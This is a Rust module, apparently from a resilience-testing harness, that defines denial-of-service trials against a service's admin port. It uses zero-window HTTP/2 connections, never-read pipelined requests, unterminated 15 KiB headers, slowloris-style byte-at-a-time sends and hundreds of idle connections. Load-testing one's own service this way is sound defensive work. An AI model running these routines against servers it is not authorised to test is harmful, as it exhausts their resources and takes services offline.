//! The admin port, which whoever reaches the pod can reach.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use crate::hpack;
use crate::http1::{self, Http1};
use crate::http2::{END_STREAM, Http2, INITIAL_WINDOW_SIZE, Reading};
use crate::target::{Attackers, Target, attackers, connect_with_small_buffer};
use crate::trial::Attack;

const SECONDS: u64 = 7;
const PATHS: [&str; 4] = ["/metrics", "/", "/ready", "/debug/buffer"];
/// A head of fewer bytes than a server allows.
const HEAD_BYTES: usize = 15 << 10;

pub(super) fn attacks() -> Vec<Attack> {
    let attack = |name, what, start| Attack::calm(name, what, SECONDS, start);
    let busy = |name, what, start| Attack::busy(name, what, SECONDS, start);
    vec![
        attack(
            "admin-window-0/64",
            "64 HTTP/2 connections, window 0, GET /metrics on each stream",
            |t| hold_responses(t, 64, &PATHS[..1]),
        ),
        busy("admin-window-0/256", "256 HTTP/2 connections, window 0, all pages", |t| {
            hold_responses(t, 256, &PATHS)
        }),
        busy(
            "admin-unread/64",
            "64 HTTP/1.1 connections, pipelined GET /metrics, never read",
            |t| pipeline(t, 64),
        ),
        busy(
            "admin-unread/256",
            "256 HTTP/1.1 connections, pipelined GET /metrics, never read",
            |t| pipeline(t, 256),
        ),
        busy("admin-heads/256", "256 HTTP/1.1 connections, heads of 15 KiB without end", |t| {
            hold_heads(t, 256)
        }),
        busy("admin-slow/256", "256 HTTP/1.1 connections, a byte of a head at a time", |t| {
            send_slowly(t, 256)
        }),
        attack("admin-idle/300", "300 connections that send nothing", |t| idle(t, 300)),
    ]
}

fn hold_responses(target: &Target, connections: usize, paths: &'static [&str]) -> Attackers {
    let admin = target.admin;
    attackers(connections, move |_| hold_on_connection(admin, paths))
}

async fn hold_on_connection(admin: SocketAddr, paths: &[&str]) -> io::Result<()> {
    let settings = [(INITIAL_WINDOW_SIZE, 0)];
    let mut connection = Http2::open(admin, &settings, Reading::Everything).await?;
    for path in paths.iter().cycle().take(connection.limits.streams as usize) {
        connection.request(&hpack::get(path), END_STREAM);
    }
    connection.flush().await?;
    connection.hold().await
}

fn pipeline(target: &Target, connections: usize) -> Attackers {
    let admin = target.admin;
    attackers(connections, move |_| async move {
        let mut stream = connect_with_small_buffer(admin).await?;
        let requests = http1::get(PATHS[0]).repeat(100);
        loop {
            stream.write_all(requests.as_bytes()).await?;
        }
    })
}

fn hold_heads(target: &Target, connections: usize) -> Attackers {
    let admin = target.admin;
    attackers(connections, move |_| async move {
        let mut connection = Http1::connect(admin).await?;
        let fields = "x: \r\n".repeat(HEAD_BYTES / 5);
        connection.send(format!("GET /metrics HTTP/1.1\r\n{fields}").as_bytes()).await?;
        connection.hold().await
    })
}

fn send_slowly(target: &Target, connections: usize) -> Attackers {
    let admin = target.admin;
    attackers(connections, move |_| async move {
        let mut connection = Http1::connect(admin).await?;
        for byte in http1::get(PATHS[0]).bytes() {
            connection.send(&[byte]).await?;
            sleep(Duration::from_millis(500)).await;
        }
        connection.hold().await
    })
}

fn idle(target: &Target, connections: usize) -> Attackers {
    let admin = target.admin;
    attackers(connections, move |_| async move { Http1::connect(admin).await?.hold().await })
}
